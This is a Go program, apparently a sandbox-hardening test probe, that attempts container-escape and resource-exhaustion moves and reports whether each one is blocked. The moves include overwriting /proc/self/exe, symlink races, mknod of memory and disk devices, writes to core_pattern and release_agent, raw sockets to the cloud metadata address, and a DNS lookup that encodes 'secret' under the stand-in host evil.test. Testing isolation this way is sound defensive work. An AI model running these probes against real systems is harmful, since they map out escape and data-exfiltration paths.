// Command attacker runs inside a sandbox under attack and prints how far it came: one line
// "what outcome" for each try, where the outcome is "ok" or the name of an error.
package main

import (
	"errors"
	"fmt"
	"net"
	"os"
	"os/signal"
	"path/filepath"
	"runtime"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"syscall"
	"time"
	"unsafe"

	"golang.org/x/sys/unix"
)

func main() {
	args := append(os.Args, make([]string, 4)...)
	verbs := map[string]func(a, b string){
		"ids":       func(string, string) { fmt.Println("euid", os.Geteuid(), "uid", os.Getuid()) },
		"sweep":     func(string, string) { sweep() },
		"schedule":  func(string, string) { schedule() },
		"burn":      burn,
		"makeshm":   func(key, _ string) { sharedMemory(key, unix.IPC_CREAT|0o666) },
		"findshm":   func(key, _ string) { sharedMemory(key, 0) },
		"fill":      fill,
		"knock":     func(string, string) { knock(os.Args[2:]) },
		"overwrite": func(string, string) { overwrite() },
		"crash":     func(string, string) { crash() },
		"swapmany":  swapMany,
		"mount":     func(string, string) { tryMount() },
		"devices":   func(string, string) { devices() },
		"killall":   func(string, string) { report("kill_all", unix.Kill(-1, 0)) },
		"masks":     func(string, string) { masks() },
		"hosts":     func(string, string) { names() },
	}
	verb := verbs[args[1]]
	if verb == nil {
		os.Exit(2)
	}
	verb(args[2], args[3])
}

func report(what string, err error) {
	var errno syscall.Errno
	switch {
	case err == nil:
		fmt.Println(what, "ok")
	case errors.As(err, &errno):
		fmt.Println(what, unix.ErrnoName(errno))
	default:
		fmt.Println(what, strings.ReplaceAll(err.Error(), " ", "_"))
	}
}

// mountPoints are the fields of mountinfo that name them, unescaped.
func mountPoints() []string {
	b, _ := os.ReadFile("/proc/self/mountinfo")
	var out []string
	for line := range strings.Lines(string(b)) {
		if f := strings.Fields(line); len(f) > 4 {
			out = append(out, strings.ReplaceAll(f[4], `\040`, " "))
		}
	}
	return out
}

// sweep tries to write at every mount point.
func sweep() {
	for _, p := range mountPoints() {
		st, err := os.Lstat(p)
		if err != nil {
			report(p, err)
			continue
		}
		if !st.IsDir() {
			f, err := os.OpenFile(p, os.O_WRONLY|syscall.O_NONBLOCK, 0)
			if err == nil {
				f.Close()
			}
			report(p, err)
			continue
		}
		f, err := os.OpenFile(filepath.Join(p, ".swept"), os.O_CREATE|os.O_WRONLY, 0o600)
		if err == nil {
			f.Close()
			os.Remove(f.Name())
		}
		report(p, err)
	}
}

func schedule() {
	param := [1]int32{1}
	_, _, errno := unix.RawSyscall(unix.SYS_SCHED_SETSCHEDULER, 0, 1 /* SCHED_FIFO */, uintptr(unsafe.Pointer(&param)))
	if errno == 0 {
		report("fifo", nil)
	} else {
		report("fifo", errno)
	}
	report("nice", unix.Setpriority(unix.PRIO_PROCESS, 0, -20))
}

// burn keeps threads busy for a time and prints how much it did.
func burn(millis, threads string) {
	ms, _ := strconv.Atoi(millis)
	n, _ := strconv.Atoi(threads)
	runtime.GOMAXPROCS(n)
	end := time.Now().Add(time.Duration(ms) * time.Millisecond)
	var wg sync.WaitGroup
	var did atomic.Int64
	for range n {
		wg.Go(func() {
			for x := 1; ; x++ {
				if x&0xffff != 0 {
					continue
				}
				did.Add(1)
				if time.Now().After(end) {
					return
				}
			}
		})
	}
	wg.Wait()
	fmt.Println("did", did.Load())
}

func sharedMemory(key string, flags int) {
	k, _ := strconv.Atoi(key)
	_, err := unix.SysvShmGet(k, 4096, flags)
	report("shm", err)
}

// fill writes to a place until it is full: "bytes", "inodes" or "memfd".
func fill(dir, what string) {
	block := make([]byte, 1<<20)
	most := 256 // MiB, or so many times 80 files: the cap of the attack itself
	n := 0
	var err error
	switch what {
	case "inodes":
		for n < most*80 {
			var f *os.File
			if f, err = os.Create(filepath.Join(dir, "i"+strconv.Itoa(n))); err != nil {
				break
			}
			f.Close()
			n++
		}
	case "memfd":
		var fd int
		if fd, err = unix.MemfdCreate("fill", 0); err == nil {
			for n < most {
				if _, err = unix.Write(fd, block); err != nil {
					break
				}
				n++
			}
		}
	case "mlock":
		var b []byte
		if b, err = unix.Mmap(-1, 0, most<<20, unix.PROT_READ|unix.PROT_WRITE, unix.MAP_PRIVATE|unix.MAP_ANON); err == nil {
			err = unix.Mlock(b)
		}
	default:
		var f *os.File
		if f, err = os.Create(filepath.Join(dir, "fill")); err == nil {
			for n < most {
				if _, err = f.Write(block); err != nil {
					break
				}
				n++
			}
		}
	}
	fmt.Println("filled", n)
	report("end", err)
}

// knock tries every way out to each address: streams, datagrams to ports of interest, raw and
// ICMP sockets.
func knock(addrs []string) {
	for _, a := range addrs {
		for _, port := range []string{"53", "80", "443", "5353", "5355"} {
			to := net.JoinHostPort(a, port)
			c, err := net.DialTimeout("tcp", to, 2*time.Second)
			if err == nil {
				_, _ = c.Write([]byte("GET / HTTP/1.1\r\n\r\n"))
				c.Close()
			}
			report("tcp_"+to, err)
			u, err := net.Dial("udp", to)
			if err == nil {
				_, err = u.Write([]byte("knock"))
				u.Close()
			}
			report("udp_"+to, err)
		}
	}
	for name, s := range map[string][3]int{
		"icmp": {unix.AF_INET, unix.SOCK_DGRAM, unix.IPPROTO_ICMP}, "raw": {unix.AF_INET, unix.SOCK_RAW, unix.IPPROTO_ICMP},
		"raw6": {unix.AF_INET6, unix.SOCK_RAW, unix.IPPROTO_ICMPV6}, "packet": {unix.AF_PACKET, unix.SOCK_RAW, 0x0300},
	} {
		fd, err := unix.Socket(s[0], s[1], s[2])
		if err == nil {
			var to unix.Sockaddr = &unix.SockaddrInet4{Addr: [4]byte{169, 254, 169, 254}}
			if s[0] == unix.AF_INET6 {
				to = &unix.SockaddrInet6{Addr: [16]byte{0xfd, 0, 0x0e, 0xc2, 14: 2, 15: 0x54}}
			}
			if s[0] != unix.AF_PACKET {
				err = unix.Sendto(fd, []byte{8, 0, 0xf7, 0xff, 0, 0, 0, 0}, 0, to)
			}
			unix.Close(fd)
		}
		report(name, err)
	}
}

// names tries to have names resolved in every way a program would.
func names() {
	for _, n := range []string{"evil.test", "c2VjcmV0.evil.test", "metadata.google.internal"} {
		_, err := net.LookupHost(n)
		report("lookup_"+n, ifErr(err != nil, "unresolved"))
	}
}

func ifErr(is bool, text string) error {
	if is {
		return errors.New(text)
	}
	return nil
}

// overwrite goes for the programs that started this one.
func overwrite() {
	for _, p := range []string{"/.daybreak/guest", "/proc/1/exe", "/proc/self/exe"} {
		f, err := os.OpenFile(p, os.O_WRONLY, 0)
		if err == nil {
			f.Close()
		}
		report(p, err)
	}
	// A program that has itself opened may wait until its parent, the launcher, is gone.
	for i := range 64 {
		f, err := os.OpenFile("/proc/self/fd/"+strconv.Itoa(i), os.O_WRONLY, 0)
		if err != nil {
			continue
		}
		var st unix.Stat_t
		if unix.Fstat(int(f.Fd()), &st) == nil && st.Mode&unix.S_IFMT == unix.S_IFREG {
			fmt.Println("descriptor", i)
		}
		f.Close()
	}
}

func crash() {
	lim := unix.Rlimit{Cur: unix.RLIM_INFINITY, Max: unix.RLIM_INFINITY}
	report("raise_core", unix.Setrlimit(unix.RLIMIT_CORE, &lim))
	signal.Reset()
	_ = unix.Kill(os.Getpid(), unix.SIGABRT)
	time.Sleep(time.Minute)
}

// swapMany replaces each of n files by a link to target and back, for ever.
func swapMany(n, target string) {
	count, _ := strconv.Atoi(n)
	for round := 0; ; round++ {
		for i := range count {
			p := "victim" + strconv.Itoa(i)
			_ = os.WriteFile(p+".f", []byte("plain"), 0o644)
			_ = os.Rename(p+".f", p)
			_ = os.Symlink(target, p+".l")
			_ = os.Rename(p+".l", p)
		}
		if round == 0 {
			_ = os.WriteFile("/tmp/swapping", []byte("x"), 0)
		}
	}
}

func tryMount() {
	report("mount", unix.Mount("none", "/tmp", "tmpfs", 0, ""))
	report("umount_proc", unix.Unmount("/proc", unix.MNT_DETACH))
	report("chroot", unix.Chroot("/tmp"))
	_, err := unix.OpenTree(unix.AT_FDCWD, "/", unix.OPEN_TREE_CLONE)
	report("open_tree", err)
	_, err = unix.Fsopen("tmpfs", 0)
	report("fsopen", err)
}

func devices() {
	report("mknod_mem", unix.Mknod("/tmp/mem", unix.S_IFCHR|0o666, 1<<8|1))
	report("mknod_disk", unix.Mknod("/tmp/disk", unix.S_IFBLK|0o666, 8<<8))
	for line := range strings.Lines(read("/proc/self/mountinfo")) {
		f := strings.Fields(line)
		opts := f[5]
		st, err := os.Lstat(f[4])
		if err != nil || !st.IsDir() || strings.HasPrefix(f[4], "/proc/") { // masks: the null device, an empty read-only directory
			continue
		}
		for _, need := range []string{"nosuid", "nodev"} {
			if !strings.Contains(","+opts+",", ","+need+",") && (need != "nodev" || !strings.HasPrefix(f[4], "/dev")) {
				fmt.Println("without_"+need, f[4])
			}
		}
	}
	fmt.Println("looked")
}

func read(p string) string { b, _ := os.ReadFile(p); return string(b) }

// masks prints what hides each masked file: it must be the null device itself.
func masks() {
	for _, p := range []string{"/proc/kcore", "/proc/keys", "/proc/sysrq-trigger", "/proc/timer_list", "/proc/cmdline", "/proc/kallsyms", "/proc/kmsg", "/proc/modules"} {
		var st unix.Stat_t
		if err := unix.Stat(p, &st); err != nil {
			report(p, err)
			continue
		}
		null := st.Mode&unix.S_IFMT == unix.S_IFCHR && unix.Major(st.Rdev) == 1 && unix.Minor(st.Rdev) == 3
		b, err := os.ReadFile(p)
		switch {
		case null && len(b) == 0:
			fmt.Println(p, "null")
		case err == nil:
			fmt.Println(p, "read", len(b))
		default:
			report(p, err)
		}
	}
	for _, p := range []string{"/proc/sys/kernel/core_pattern", "/proc/sysrq-trigger", "/sys/kernel/uevent_helper", "/sys/fs/cgroup/release_agent", "/proc/sys/vm/drop_caches"} {
		f, err := os.OpenFile(p, os.O_WRONLY, 0)
		if err == nil {
			var st unix.Stat_t
			if unix.Fstat(int(f.Fd()), &st) == nil && st.Mode&unix.S_IFMT == unix.S_IFCHR {
				err = errors.New("masked")
			}
			f.Close()
		}
		report("write_"+p, err)
	}
}
